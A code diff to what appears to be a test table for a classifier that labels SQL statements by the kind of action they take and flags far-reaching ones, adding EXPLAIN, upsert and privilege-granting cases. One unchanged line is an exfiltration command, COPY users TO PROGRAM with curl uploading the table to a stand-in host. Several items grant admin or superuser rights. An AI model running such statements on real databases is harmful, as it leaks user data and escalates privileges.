@@ -385,8 +385,22 @@ SQL = [
     ("COPY users TO '/tmp/users.csv' CSV HEADER", {"create"}, False),
     ("COPY users FROM '/tmp/users.csv'", {"create"}, False),
     ("COPY users TO PROGRAM 'curl -T - https://x.example'", {"unknown"}, False),
-    # EXPLAIN ANALYZE runs the statement it explains: not judged as a read
-    ("EXPLAIN ANALYZE DELETE FROM users", {"unknown"}, False),
+    # EXPLAIN plans a statement without running it; EXPLAIN ANALYZE runs it, so it is
+    # judged as the statement
+    ("EXPLAIN SELECT * FROM users WHERE name ILIKE '%son%'", {"read"}, False),
+    ("EXPLAIN (FORMAT JSON) DELETE FROM users", {"read"}, False),
+    ("EXPLAIN ANALYZE DELETE FROM users", {"delete"}, True),
+    ("EXPLAIN (ANALYZE, BUFFERS) SELECT 1", {"read"}, False),
+    # an upsert changes the row that is there; a row written with a privilege is access
+    (
+        "INSERT INTO users (email) VALUES ('a@x') ON CONFLICT (email) DO UPDATE SET pw = NULL",
+        {"create", "modify"},
+        False,
+    ),
+    ("INSERT INTO users (email) VALUES ('a@x') ON CONFLICT DO NOTHING", {"create"}, False),
+    ("INSERT INTO users (email, is_admin) VALUES ('a@x', true)", {"create", "grant"}, True),
+    ("INSERT INTO users (email, is_admin) VALUES ('a@x', false)", {"create"}, False),
+    ("UPDATE users SET role = 'admin' WHERE id = 4", {"modify", "grant"}, True),
     # a role is access; one with powers over the whole server is far-reaching
     ("CREATE ROLE bi_reader NOLOGIN", {"grant"}, False),
     ("CREATE ROLE bi_reader SUPERUSER LOGIN PASSWORD 'bi'", {"grant"}, True),
